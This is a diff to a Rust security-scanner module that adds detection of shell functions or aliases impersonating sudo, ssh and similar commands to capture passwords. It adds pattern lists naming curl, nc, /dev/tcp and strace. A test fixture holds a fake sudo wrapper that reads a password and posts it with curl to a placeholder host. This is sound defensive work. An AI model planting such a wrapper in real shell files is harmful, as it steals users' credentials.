@@ -24,8 +24,28 @@ const SENDS: &str = "requests.post(|requests.get(|requests.put(|httpx.|urlopen(|
 
 /// Whether a text listens and sends away, as the one before it did not.
 pub(super) fn is_written(written: &Written<'_>) -> bool {
+    if asks_in_place(written) {
+        return true;
+    }
     let listens = || written.holds(LISTENS) || written.holds(LOOKS) || written.holds(OF_BROWSERS);
     written.is_form(FORMS) && listens() && !is_test(written.path) && written.gains(tells_on)
+}
+
+/// Whether a shell is given something in the place of what asks for a password, that asks for it too and tells or keeps it.
+fn asks_in_place(written: &Written<'_>) -> bool {
+    const ASKS: &str = "read -s|read -rs|read -sr|read -ers|read --silent|stty -echo|systemd-ask-password|zenity --password|kdialog --password|hidden answer";
+    const STANDS: &str = "sudo()|su()|ssh()|doas()|passwd()|login()|gpg()|kinit()|scp()|sftp()|functionsudo|functionssh|functionsu{|functiondoas|\
+        functionpasswd|functiongpg|functionkinit|aliassudo=|aliasssh=|aliassu=";
+    const KEEPS: &str = "curl|wget|nc |ncat|/dev/tcp/|>>|>~|>/tmp|tee|mail|socat|nslookup|dig ";
+    const RECORDS: &str = "aliasssh='strace|aliasssh=\"strace|aliassudo='strace|aliassudo=\"strace|aliassu='strace|aliasssh='script|aliassudo='script";
+    let tells = |text: &str| {
+        let dense = || dense(text);
+        holds(text, ASKS) && holds(text, KEEPS) && holds(&dense(), STANDS)
+            || text.contains("alias ") && holds(&dense(), RECORDS)
+    };
+    let (name, hints) = (written.name(), "read -|stty -echo|ask-password|--password|hidden answer|strace|script ");
+    let of_shell = written.is_form("sh|bash|zsh|ksh|fish|command") || name.starts_with('.') || !name.contains('.');
+    of_shell && written.holds(hints) && !is_test(written.path) && written.gains(tells)
 }
 
 fn tells_on(text: &str) -> bool {
@@ -61,6 +81,17 @@ const OF_BROWSERS: &str = "cookies.getAll|history.search";
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn who_asks_in_the_place_of_another_is_seen() {
+        for (text, seen) in [
+            ("sudo() {\n read -rsp pw: p\n curl -d $p https://a.example\n command sudo -S $@\n}", true),
+            ("ssh() { TERM=xterm command ssh \"$@\"; }\nread -s -p x y", false),
+            ("read -rsp 'Registry password: ' p\ncurl -u me:$p https://r.example", false),
+        ] {
+            assert_eq!(is_written(&Written::of(text, None, "/home/you/.bashrc.d/9.sh")), seen, "{text}");
+        }
+    }
 
     #[test]
     fn who_listens_and_tells_is_seen() {
